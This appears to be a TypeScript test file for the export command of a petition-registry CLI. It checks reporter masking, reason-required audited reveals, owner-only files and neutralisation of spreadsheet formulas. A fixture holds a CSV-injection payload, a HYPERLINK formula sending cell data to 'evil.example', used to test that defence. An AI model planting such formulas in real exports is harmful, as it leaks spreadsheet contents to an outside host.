// xinfang export [--reveal --reason TEXT] (SPEC 5, 6): every item, void ones included, in list's
// item shape; reporters masked unless revealed; a revealing export writes exactly one audit entry
// (reason, count, file, never a reporter value) before any reporter leaves; files owner-only, CSV
// for people neutralised. On every engine.
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { auditActionLabel, auditDetailsText } from '../../src/cli/render/history.js';
import { Registry } from '../../src/store/registry.js';
import { lazyVault, type UseCaseContext } from '../../src/usecases/context.js';
import { exportItems, type ExportedItem } from '../../src/usecases/export.js';
import { cliSandbox, registerOk, testRegistries, type CliSandbox } from '../support/cli.js';
import { rawSql } from '../support/raw.js';

const NAME = '王小明';
const ID = '11010519491231002X';
const PHONE = '13812345678';
const ADDRESS = '兰州市城关区某路12号';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
const CLEAR = [NAME, ID, PHONE, ADDRESS];

type Entry = { action: string; details: Record<string, unknown> };
type Item = ExportedItem & Record<string, unknown>;

describe.each(testRegistries)('export on $engine', (registry) => {
  let s: CliSandbox;
  beforeEach(async () => { s = await cliSandbox(registry); });
  afterEach(async () => { await s.cleanup(); });

  const auditLog = async () => JSON.parse(await s.ok(['audit', 'log', '--json'])) as Entry[];
  const exports = async () => (await auditLog()).filter((e) => e.action === 'export');

  /** 2016-0001 with a full reporter, 2016-0002 anonymous with a formula summary, 2016-0003 voided. */
  async function three(): Promise<void> {
    await registerOk(s, { 'reporter-name': NAME, 'reporter-id': ID, 'reporter-phone': PHONE, 'reporter-address': ADDRESS, received: '2016-06-01' });
    await registerOk(s, { summary: FORMULA, 'accused-unit': '+1+2', received: '2016-06-02' });
    await registerOk(s, { received: '2016-06-03' });
    await s.ok(['void', '2016-0003', '--reason', '误登']);
  }

  it('masks the reporter by default, includes void items, prints list\'s items exactly, and writes no audit entry', async () => {
    await three();
    const before = (await auditLog()).length;
    const r = await s.cli(['export', '--json']);
    expect(r.code, r.stderr).toBe(0);
    for (const v of CLEAR) expect(r.stdout).not.toContain(v);
    const items = JSON.parse(r.stdout) as Item[];
    expect(items.map((i) => [i.code, i.status])).toEqual([['2016-0001', 'pending'], ['2016-0002', 'pending'], ['2016-0003', 'void']]);
    expect(items[0]).toMatchObject({ reporterName: '王*', reporterPhone: '138****5678', reporterId: expect.stringMatching(/^110105\*+002X$/), reporterDamaged: false });
    // The same item shape as list: same keys, same values.
    const listed = JSON.parse(await s.ok(['list', '--include-void', '--json'])) as Item[];
    expect(items.map((i) => Object.keys(i))).toEqual(listed.map((i) => Object.keys(i)));
    expect(items).toEqual(listed);
    expect(items[0]).not.toHaveProperty('reporterSealed');
    expect((await auditLog()).length).toBe(before);
  });

  it('--reveal --reason shows the reporter in clear and writes exactly one audit entry with the reason and count, no reporter value', async () => {
    await three();
    const before = (await auditLog()).length;
    const r = await s.cli(['export', '--reveal', '--reason', '2016年度归档', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const items = JSON.parse(r.stdout) as Item[];
    expect(items).toHaveLength(3);
    expect(items[0]).toMatchObject({ reporterName: NAME, reporterId: ID, reporterPhone: PHONE, reporterAddress: ADDRESS, reporterSealed: {} });
    expect(items[1]).toMatchObject({ reporterName: null, reporterPhone: null, realName: false });
    expect(items[2]!.status).toBe('void');
    // Revealed keys are list's, in list's order, and reporterSealed.
    const listKeys = Object.keys((JSON.parse(await s.ok(['list', '--json'])) as Item[])[0]!);
    expect(Object.keys(items[0]!)).toEqual([...listKeys, 'reporterSealed']);
    const log = await auditLog();
    expect(log.length).toBe(before + 1);
    const entry = log[log.length - 1]!;
    expect(entry.action).toBe('export');
    expect(entry.details).toEqual({ reason: '2016年度归档', items: 3, file: null, format: 'json' });
    const text = JSON.stringify(log);
    for (const v of CLEAR) expect(text).not.toContain(v);
    expect(r.stderr).toContain('已记入审计日志');
  });

  it('--reveal without a reason, with a blank one, or --reason without --reveal: exit 2 naming the flag, nothing written or audited', async () => {
    await three();
    const before = (await auditLog()).length;
    const out = join(s.dir, 'x.csv');
    const none = await s.cli(['export', '--reveal', '-o', out]);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('--reason');
    expect(none.stdout).toBe('');
    const blank = await s.cli(['export', '--reveal', '--reason', '  ', '--json']);
    expect(blank.code).toBe(2);
    expect(blank.stderr).toContain('--reason');
    expect(blank.stdout).toBe('');
    const lone = await s.cli(['--lang', 'en', 'export', '--reason', 'archive', '--json']);
    expect(lone.code).toBe(2);
    expect(lone.stderr).toContain('--reveal');
    expect(lone.stdout).toBe('');
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(s.dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    expect((await auditLog()).length).toBe(before);
  });

  it('--output x.csv: the extension decides the format, the file is owner-only, formula cells neutralised; --raw keeps them', async () => {
    await three();
    const out = join(s.dir, 'x.csv');
    const r = await s.cli(['export', '--output', out]);
    expect(r.code, r.stderr).toBe(0);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const csv = readFileSync(out, 'utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = csv.slice(1).trimEnd().split('\r\n');
    expect(header).toBe('code,received,source,group,forwardedBy,ref,channel,kind,category,summary,realName,reporterName,reporterId,reporterPhone,reporterAddress,'
      + 'accusedName,accusedUnit,accusedPost,accusedRank,status,duplicateOf,disposal,assignedTo,due,concluded,extra');
    expect(rows).toHaveLength(3);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
    expect(csv).toContain(",'+1+2,");
    expect(rows[2]).toContain(',void,');
    for (const v of CLEAR) expect(csv).not.toContain(v);
    expect(csv).toContain('138****5678');

    const raw = join(s.dir, 'raw.csv');
    await s.ok(['export', '--reveal', '--reason', '移交档案室', '--raw', '-o', raw]);
    expect(statSync(raw).mode & 0o777).toBe(0o600);
    const rawCsv = readFileSync(raw, 'utf8');
    expect(rawCsv.startsWith('\uFEFF')).toBe(false);
    expect(rawCsv.split('\r\n')[0]).toContain(',reporterName,reporterId,reporterPhone,reporterAddress,reporterSealed,');
    expect(rawCsv).toContain(`"=HYPERLINK(""http://evil.example/?d=""&A1,""点我"")"`);
    for (const v of CLEAR) expect(rawCsv).toContain(v);
    const entry = (await exports())[0]!;
    expect(entry.details).toEqual({ reason: '移交档案室', items: 3, file: raw, format: 'csv' });
  });

  it('sealed columns are revealed as reveal shows them; a damaged reporter block reads as damaged, not a crash', async () => {
    const csv = join(s.dir, 'cases.csv');
    writeFileSync(csv, '来文编号,转办机关,收件日期,内容摘要,反映人,举报人姓名及电话\n甘纪转〔2016〕1号,甘肃省纪委监委,2016-06-22,反映问题,李四,李四 13900000001\n');
    expect((await s.cli(['import', csv, '--map', '举报人姓名及电话=sealed'])).code).toBe(0);
    await registerOk(s, { 'reporter-name': NAME, 'reporter-phone': PHONE, received: '2016-06-23' });
    const masked = await s.ok(['export', '--json']);
    expect(masked).not.toContain('13900000001');
    const shown = JSON.parse(await s.ok(['export', '--reveal', '--reason', '核实', '--json'])) as Item[];
    const revealed = JSON.parse(await s.ok(['reveal', '2016-0001', '--reason', '核实', '--json'])) as { sealed: Record<string, string> };
    expect(shown[0]!.reporterSealed).toEqual(revealed.sealed);
    expect(shown[0]!.reporterSealed).toEqual({ 举报人姓名及电话: '李四 13900000001' });

    // Damage the imported item's block: its reporter reads as damaged, the other item as usual.
    const block = (await rawSql(registry.engine, s.db, "SELECT reporter_block FROM items WHERE code = '2016-0001'"))[0]!.reporter_block;
    await rawSql(registry.engine, s.db, 'UPDATE reporter_blocks SET data = ' + (registry.engine === 'sqlite' ? "x'0102030405060708091011121314151617181920212223242526272829'" : "'\\x0102030405060708091011121314151617181920212223242526272829'::bytea") + ` WHERE id = ${Number(block)}`);
    const r = await s.cli(['export', '--reveal', '--reason', '核实', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const after = JSON.parse(r.stdout) as Item[];
    expect(after.map((i) => [i.code, i.reporterDamaged, i.reporterName, i.reporterPhone])).toEqual([
      ['2016-0001', true, null, null], ['2016-0002', false, NAME, PHONE]]);
    expect(after[0]!.reporterSealed).toEqual({});
    const table = await s.cli(['export', '--format', 'csv']);
    expect(table.code).toBe(0);
    expect(table.stdout.split('\r\n')[1]).toContain(',(damaged),');
  });

  it('the audit log and history read the export as a phrase: count, file, reason', async () => {
    await three();
    const out = join(s.dir, 'archive.json');
    await s.ok(['export', '--reveal', '--reason', '年度归档', '-o', out]);
    const table = await s.ok(['audit', 'log']);
    expect(table).toContain('明文导出信访件');
    expect(table).toContain(`3 件，反映人明文，写到 ${out}；理由：年度归档`);
    expect(auditActionLabel('export', 'en')).toBe('exported with reporters in clear');
    expect(auditDetailsText('export', { reason: 'archive', items: 2, file: null, format: 'json' }, 'en')).toBe('2 items, reporters in clear, to standard output; reason: archive');
    expect(auditDetailsText('export', { reason: '归档', items: 2, file: null, format: 'json' }, 'zh')).toBe('2 件，反映人明文，写到 标准输出；理由：归档');
  });

  it('a table and Markdown show the reporter fields, masked unless revealed', async () => {
    await three();
    const table = await s.ok(['export']);
    expect(table).toContain('王*');
    expect(table).not.toContain(NAME);
    expect(table).toContain('138****5678');
    expect(table).not.toContain(PHONE);
    const md = await s.ok(['export', '--reveal', '--reason', '核实', '--format', 'md']);
    expect(md.split('\n')[0]).toContain('联系电话');
    for (const v of CLEAR) expect(md).toContain(v);
  });

  it('--as-of gives each item\'s state at that date, as list --as-of does', async () => {
    await three();
    await s.ok(['dispose', '2016-0001', '--as', 'verify', '--on', '2016-06-10']);
    const status = async (...args: string[]) => (JSON.parse(await s.ok(['export', '--json', ...args])) as Item[]).map((i) => i.status);
    expect(await status()).toEqual(['disposed', 'pending', 'void']);
    expect(await status('--as-of', '2016-06-05')).toEqual(['pending', 'pending', 'void']);
    expect((await s.cli(['export', '--as-of', '2016-13-01'])).code).toBe(2);
  });

  describe('paging', () => {
    let reg: Registry;
    let ctx: UseCaseContext;
    beforeEach(async () => {
      reg = await Registry.open(s.db, { create: false });
      const vault = lazyVault(reg, s.env, () => {});
      reg.useSigner(async () => ({ key: (await vault()).auditKey(), osUser: 'tester' }));
      ctx = { registry: reg, now: () => new Date(), operator: 'tester', env: s.env, warn: () => {}, vault };
    });
    afterEach(async () => { await reg.close(); });

    it('pages in received order; the revealed count is fixed when audited: an item registered meanwhile is not exported', async () => {
      for (const d of ['2016-06-05', '2016-06-01', '2016-06-03', '2016-06-02', '2016-06-04']) await registerOk(s, { received: d, 'reporter-phone': PHONE });
      const e = await exportItems(ctx, { reveal: true, reason: '核实', format: 'json', pageSize: 2 });
      expect(e.audit()).toBeUndefined(); // nothing audited until the first page is asked for
      expect(await exports()).toEqual([]);
      const first = await e.pages.next();
      expect((first.value as ExportedItem[]).map((i) => i.received)).toEqual(['2016-06-01', '2016-06-02']);
      await registerOk(s, { received: '2016-06-30', 'reporter-phone': PHONE }); // 2016-0006, after the audit
      const rest: ExportedItem[] = [];
      for await (const page of e.pages) rest.push(...page);
      expect(rest.map((i) => i.received)).toEqual(['2016-06-03', '2016-06-04', '2016-06-05']);
      expect(rest.every((i) => i.reporterPhone === PHONE)).toBe(true);
      expect(e.audit()).toMatchObject({ items: 5 });
      expect((await exports()).map((x) => x.details.items)).toEqual([5]);

      const masked = await exportItems(ctx, { reveal: false, format: 'json', pageSize: 2 });
      const all: ExportedItem[] = [];
      for await (const page of masked.pages) all.push(...page);
      expect(all.map((i) => i.code)).toContain('2016-0006');
      expect(all).toHaveLength(6);
      expect(masked.audit()).toBeUndefined();
      expect(await exports()).toHaveLength(1);
    });

    it('a revealing export with more items than its output holds (.xlsx) is refused before it is audited', async () => {
      await three();
      const refusal = new Error('too many for the spreadsheet');
      const e = await exportItems(ctx, { reveal: true, reason: '核实', format: 'xlsx', limit: { items: 2, refuse: () => refusal } });
      await expect(e.pages.next()).rejects.toBe(refusal);
      expect(e.audit()).toBeUndefined();
      expect(await exports()).toEqual([]);
      // At the limit it is exported and audited.
      const ok = await exportItems(ctx, { reveal: true, reason: '核实', format: 'xlsx', limit: { items: 3, refuse: () => refusal } });
      const all: ExportedItem[] = [];
      for await (const page of ok.pages) all.push(...page);
      expect(all).toHaveLength(3);
      expect((await exports()).map((x) => x.details.items)).toEqual([3]);
    });
  });
});

describe('export of a read-only SQLite registry', () => {
  const sqlite = testRegistries.find((r) => r.engine === 'sqlite')!;
  let s: CliSandbox;
  /** Write permission off (as root, which permissions do not stop, the immutable attribute; see readonly-registry.test.ts). */
  const writable = (yes: boolean) => {
    if (process.getuid?.() === 0) execFileSync('chattr', [yes ? '-i' : '+i', s.db]);
    else chmodSync(s.db, yes ? 0o600 : 0o400);
  };
  beforeEach(async () => {
    s = await cliSandbox(sqlite);
    await registerOk(s, { 'reporter-name': NAME, 'reporter-phone': PHONE });
    writable(false);
  });
  afterEach(async () => {
    writable(true);
    await s.cleanup();
  });

  it('a masked export needs no write and works; a revealing one cannot be audited, so it reveals nothing (exit 2, no file)', async () => {
    const masked = await s.cli(['export', '--json']);
    expect(masked.code, masked.stderr).toBe(0);
    expect((JSON.parse(masked.stdout) as Item[]).map((i) => i.reporterPhone)).toEqual(['138****5678']);
    const out = join(s.dir, 'x.csv');
    const toFile = await s.cli(['export', '--reveal', '--reason', '归档', '-o', out]);
    expect(toFile.code).toBe(2);
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(s.dir).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    const toStdout = await s.cli(['export', '--reveal', '--reason', '归档', '--json']);
    expect(toStdout.code).toBe(2);
    for (const v of [NAME, PHONE, '2016-0001']) expect(toStdout.stdout).not.toContain(v);
  });
});
